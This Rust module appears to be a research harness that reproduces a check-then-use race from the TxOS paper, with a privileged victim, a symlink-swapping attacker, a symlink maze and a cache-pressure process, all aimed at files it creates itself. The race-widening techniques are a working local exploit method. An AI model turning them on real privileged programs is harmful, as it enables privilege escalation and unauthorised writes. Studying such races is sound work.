//! The race between a check and a use (TxOS's paper, section 4.6; Borisov and others, "Fixing races for fun and
//! profit"): a program with more rights than its user asks whether the user may write to a file, and then writes to it;
//! meanwhile the user puts a link to another file in its place.

use rustix::fs::{Access, CWD, Mode, OFlags, RenameFlags};
use std::fs;
use std::io::{self, Write};
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::Path;
use std::time::{Duration, Instant};

/// The word that asks this program for a part in it.
pub(crate) const WORD: &str = "--race";

/// The user, who owns nothing else.
const USER: u32 = 65_534;

/// The maze on the way to the file, which takes long to walk and leads back to where it began: links, and steps in
/// each.
const LINKS: usize = 10;
const STEPS: usize = 2000;

/// An attacker that nobody ends does so by itself.
const PATIENCE: Duration = Duration::from_secs(3000);

/// `prepare DIR`, `victim DIR TIMES`, `attacker DIR`, `presser DIR`.
pub(crate) fn obey(words: &[String]) -> io::Result<()> {
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    match words[..] {
        ["prepare", directory] => prepare(Path::new(directory)),
        ["victim", directory, times] => victim(Path::new(directory), times.parse().map_err(io::Error::other)?),
        ["attacker", directory] => attack(Path::new(directory)),
        ["presser", directory] => press(Path::new(directory)),
        _ => Err(io::ErrorKind::InvalidInput.into()),
    }
}

/// `secret`, which is root's; `open/foo`, which is the user's, and beside it a link to the other.
fn prepare(directory: &Path) -> io::Result<()> {
    let open = directory.join("open");
    fs::create_dir_all(&open)?;
    fs::write(directory.join("secret"), "")?;
    fs::set_permissions(directory.join("secret"), PermissionsExt::from_mode(0o600))?;
    fs::write(open.join("foo"), "")?;
    fs::set_permissions(open.join("foo"), PermissionsExt::from_mode(0o666))?;
    symlink("../secret", open.join("link"))?;
    for number in 0..LINKS {
        let next = if number + 1 < LINKS { format!("l{}", number + 1) } else { ".".to_owned() };
        symlink(format!("{}{next}", "./".repeat(STEPS)), open.join(format!("l{number}")))?;
    }
    [open.join("foo"), open].iter().try_for_each(|path| chown(path, Some(USER), Some(USER)))
}

/// Exchanges the two until there is a file `stop`.
fn attack(directory: &Path) -> io::Result<()> {
    let (one, other, stop) = (directory.join("open/foo"), directory.join("open/link"), directory.join("stop"));
    let begun = Instant::now();
    while !stop.exists() && begun.elapsed() < PATIENCE {
        for _ in 0..1000 {
            rustix::fs::renameat_with(CWD, &one, CWD, &other, RenameFlags::EXCHANGE)?;
        }
    }
    Ok(())
}

/// Reads more than its memory holds, file by file, and looks for names that nobody has: what others have looked up has
/// to make room.
fn press(directory: &Path) -> io::Result<()> {
    const FILES: usize = 40;
    const SIZE: usize = 4 << 20;
    let (pressing, stop) = (directory.join("pressing"), directory.join("stop"));
    fs::create_dir_all(&pressing)?;
    let begun = Instant::now();
    for round in 0.. {
        for number in 0..FILES {
            if stop.exists() || begun.elapsed() > PATIENCE {
                return Ok(());
            }
            let path = pressing.join(number.to_string());
            if round == 0 {
                fs::write(&path, vec![b'x'; SIZE])?;
            }
            fs::read(&path)?;
            (0..2000).for_each(|missing| drop(pressing.join(format!("{round}-{number}-{missing}")).symlink_metadata()));
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    Ok(())
}

/// Checks and uses. What it writes to the user's file nobody needs; what it writes to the secret is a win of the
/// attacker's.
fn victim(directory: &Path, times: u32) -> io::Result<()> {
    let (user, root) = (rustix::fs::Uid::from_raw(USER), rustix::fs::Uid::ROOT);
    rustix::thread::set_thread_res_uid(Some(user), Some(root), Some(root))?;
    let path = directory.join("open/l0/foo");
    for _ in 0..times {
        // By the rights of the real user, as access(2) does.
        if rustix::fs::access(&path, Access::WRITE_OK).is_err() {
            continue;
        }
        if let Ok(file) = rustix::fs::open(&path, OFlags::WRONLY | OFlags::APPEND | OFlags::CLOEXEC, Mode::empty()) {
            fs::File::from(file).write_all(b"x")?;
        }
    }
    Ok(())
}
